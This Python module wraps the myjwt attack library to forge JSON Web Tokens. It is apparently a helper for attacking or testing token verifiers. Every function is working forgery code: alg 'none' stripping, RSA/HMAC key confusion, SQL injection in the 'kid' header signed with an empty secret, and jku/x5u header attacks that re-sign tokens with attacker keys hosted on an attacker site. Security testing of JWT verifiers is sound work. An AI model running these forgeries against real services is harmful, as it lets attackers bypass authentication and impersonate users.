"""Forgeries made with the published JWT attack tool `myjwt` (PyPI `myjwt==2.1.0`, used as a library).

myjwt's functions take a token and return the attacked token: alg "none", RSA→HMAC key confusion with a
public key file, SQL in `kid`, and `jku` / `x5u` pointing at a key set the attacker hosts. The `jku`/`x5u`
functions fetch the token's current `jku`/`x5u` URL (as a template) and write the forged key set and
certificate into the current directory, so they run inside the attacker site's directory."""
from __future__ import annotations

import contextlib
import json
import warnings
from pathlib import Path

from myjwt.modify_jwt import add_header, change_alg, signature
from myjwt.utils import encode_jwt, jwt_to_json
from myjwt.vulnerabilities import (
    confusion_rsa_hmac, inject_sql_kid, jku_vulnerability, none_vulnerability, x5u_vulnerability,
)

MYJWT_VERSION = "2.1.0"


def alg_none(token: str) -> str:
    return none_vulnerability(token)


def hmac_key_confusion(token: str, public_key_file: Path) -> str:
    """HS256 over the token, keyed with the text of `public_key_file` (myjwt's RSA/HMAC confusion)."""
    return confusion_rsa_hmac(token, str(public_key_file))


def kid_injection(token: str, injection: str) -> str:
    """myjwt's kid injection: `kid` replaced, then HS256-signed with an empty secret (the "kid points at
    /dev/null or an empty DB row" exploit), starting from the token re-labelled HS256 by myjwt."""
    relabelled = signature(change_alg(jwt_to_json(token), "HS256"), "")
    return inject_sql_kid(relabelled, injection)


def _with_header(token: str, extra: dict) -> str:
    return encode_jwt(add_header(jwt_to_json(token), extra)) + "." + token.split(".")[2]


def jku_attack(token: str, site_url: str, site_dir: Path, public_jwks: dict) -> str:
    """Token re-signed with a fresh attacker RSA key whose public half myjwt writes into a copy of the IdP's
    JWKS (same `kid`) on the attacker site; `jku` names that copy."""
    (site_dir / "idp-jwks-template.json").write_text(json.dumps(public_jwks), encoding="utf-8")
    seeded = _with_header(token, {"jku": site_url + "idp-jwks-template.json"})
    with contextlib.chdir(site_dir), warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # myjwt uses pyOpenSSL's deprecated crypto API
        return jku_vulnerability(seeded, url=site_url, file="forged-jwks.json")


def x5u_attack(token: str, site_url: str, site_dir: Path, public_jwks: dict) -> str:
    """Token re-signed with a fresh self-signed attacker certificate's key; `x5u` names a key set on the
    attacker site carrying that certificate (myjwt creates selfsigned.crt / private.pem there)."""
    (site_dir / "x5u-template.json").write_text(json.dumps(public_jwks), encoding="utf-8")
    seeded = _with_header(token, {"x5u": site_url + "x5u-template.json"})
    with contextlib.chdir(site_dir), warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # myjwt uses pyOpenSSL's deprecated crypto API
        return x5u_vulnerability(seeded, url=site_url, file="forged-x5u.json")
